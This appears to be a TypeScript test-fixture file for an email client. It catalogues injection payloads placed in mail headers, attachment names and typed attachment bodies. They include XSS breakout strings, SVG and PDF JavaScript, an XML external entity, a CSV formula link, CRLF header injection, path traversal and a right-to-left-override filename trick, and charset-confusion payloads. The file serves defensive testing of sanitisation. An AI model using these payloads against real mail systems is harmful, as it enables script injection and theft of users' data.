/** Places of a message that a sender fills, other than its HTML, and what would break out of a page in each. */

/** What ends an attribute, an element, a string or a block of data that holds it. */
export const BREAKERS: readonly string[] = [
  '"><script>{js}</script>',
  "'><img src=x onerror={js}>",
  '</script><script>{js}</script>',
  '</title></textarea></style></noscript><svg onload={js}>',
  '<!--<script>{js}',
  'javascript:{js}',
  '\u2028";{js};//',
  '{{constructor.constructor(`{js}`)()}}',
];

/** Header fields that pages, searches and the index show. `{x}` is what breaks out. */
export const HEADERS: readonly string[] = [
  'Subject: {x}',
  'From: {x} <eve@example.org>',
  'To: {x} <ada@example.org>',
  'Cc: "{x}" <cc@example.org>',
  'Bcc: {x}',
  'Reply-To: {x} <reply@example.org>',
  'Sender: {x}',
  'From: eve@example.org ({x})',
  'From: "<{x}>"@example.org',
  'To: {x}:ada@example.org;',
  'Message-ID: <{x}>',
  'In-Reply-To: <{x}>',
  'References: <{x}> <{x}2>',
  'Date: {x}',
  'Received: from {x} by example.org; Mon, 02 Feb 2026 10:00:00 +0000',
  'List-Unsubscribe: <javascript:{x}>, <{url}>',
  'List-ID: {x} <list.example.org>',
  'X-{x}: {x}',
  'Content-Location: {x}',
  'Content-Base: {url}',
  'Link: <{url}>; rel=preload',
  'Refresh: 0; url={url}',
  'Set-Cookie: {x}',
  'Content-Security-Policy: script-src *',
  'X-Face: {x}',
  'Face: {x}',
  'Disposition-Notification-To: {x} <eve@example.org>',
  'Authentication-Results: {x}; spf=pass',
  'MIME-Version: {x}',
  'Autocrypt: addr=eve@example.org; keydata={x}',
];

/** Names of attachments. */
export const FILE_NAMES: readonly string[] = [
  '{x}.html',
  '../../../../tmp/{x}',
  'C:\\{x}.exe',
  'invoice\u202Efdp.{x}.html',
  '{x}\r\nContent-Type: text/html\r\n\r\n{x}',
  '.htaccess',
  'con.{x}.svg',
  `${'a'.repeat(4_000)}{x}.pdf`,
  '\u0000{x}.eml',
  'picture.png\u0000{x}.html',
];

/** Attachments and bodies of other types, which are text to be shown or to be indexed. */
export const TYPED: readonly (readonly [type: string, content: string])[] = [
  [
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script><image href="{url}"/></svg>',
  ],
  [
    'image/svg+xml',
    '<?xml-stylesheet href="{url}"?><svg xmlns="http://www.w3.org/2000/svg"><style>@import "{url}"</style></svg>',
  ],
  [
    'application/xhtml+xml',
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script></html>',
  ],
  [
    'text/xml',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{url}">]><x xmlns:h="http://www.w3.org/1999/xhtml">&a;<h:script>{js}</h:script></x>',
  ],
  ['application/xml', '<?xml-stylesheet type="text/xsl" href="{url}"?><x>{js}</x>'],
  [
    'text/calendar',
    'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<script>{js}</script>\r\nLOCATION:"><img src=x onerror={js}>\r\nURL:javascript:{js}\r\nATTACH:{url}\r\nDESCRIPTION:<svg onload={js}>\r\nORGANIZER;CN="<script>{js}</script>":mailto:eve@example.org\r\nEND:VEVENT\r\nEND:VCALENDAR',
  ],
  [
    'text/vcard',
    'BEGIN:VCARD\r\nFN:<script>{js}</script>\r\nPHOTO;VALUE=uri:{url}\r\nURL:javascript:{js}\r\nEND:VCARD',
  ],
  ['text/csv', 'a,b\r\n"<script>{js}</script>",=HYPERLINK("{url}")\r\n'],
  ['text/javascript', '{js}'],
  ['application/json', '{"a":"</script><script>{js}</script>"}'],
  ['text/css', '@import "{url}"; p{background:url({url})}'],
  [
    'text/x-amp-html',
    '<html amp4email><script>{js}</script><amp-img src="{url}"></amp-img></html>',
  ],
  ['text/enriched', '<html><script>{js}</script></html><x-color><param>red</param>x</x-color>'],
  ['text/richtext', '<bold><script>{js}</script></bold>'],
  ['text/markdown', '[x](javascript:{js}) ![x]({url}) <script>{js}</script>'],
  ['text/directory', '<script>{js}</script>'],
  [
    'message/external-body; access-type=URL; URL="{url}"',
    'Content-Type: text/html\r\n\r\n<script>{js}</script>',
  ],
  ['message/delivery-status', 'Reporting-MTA: dns; <script>{js}</script>\r\n'],
  [
    'message/rfc822',
    'Subject: <script>{js}</script>\r\nContent-Type: text/html\r\n\r\n<script>{js}</script><img src="{url}">',
  ],
  [
    'application/pdf',
    '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS({js})>>/AA<</O<</S/URI/URI({url})>>>>>>endobj\n4 0 obj<</Length 60>>stream\nBT /F1 12 Tf (<script>{js}</script>) Tj ET\nendstream endobj\ntrailer<</Root 1 0 R>>',
  ],
  ['application/x-shockwave-flash', 'FWS\u0006<script>{js}</script>'],
  [
    'multipart/x-mixed-replace; boundary=r',
    '--r\r\nContent-Type: text/html\r\n\r\n<script>{js}</script>\r\n--r--',
  ],
  [
    'text/html; charset=utf-7',
    '+ADw-script+AD4-{js}+ADw-/script+AD4-+ADw-img src=+ACI-{url}+ACI-+AD4-',
  ],
  ['text/html; charset="utf-8\u0022><script>{js}</script>', '<script>{js}</script>'],
  [
    'text/html; charset=iso-2022-jp',
    '<img alt="\u001b$B"><p title="\u001b(B onerror={js} src=x><img src=x onerror={js}>',
  ],
  ['text/html; charset=hz-gb-2312', '<img alt="~{"><img src=x onerror={js}>~}">'],
  ['text/html; charset=x-user-defined', '<\u00f3cript>{js}</script><img src=x onerror={js}>'],
  ['text/html; charset=cp037', '<script>{js}</script>'],
  ['text/html; charset=utf-16le', '<script>{js}</script>'],
  ['text/html; charset=unknown-8bit', '<script>{js}</script>\u00c0\u00bcscript\u00c0\u00be{js}'],
];
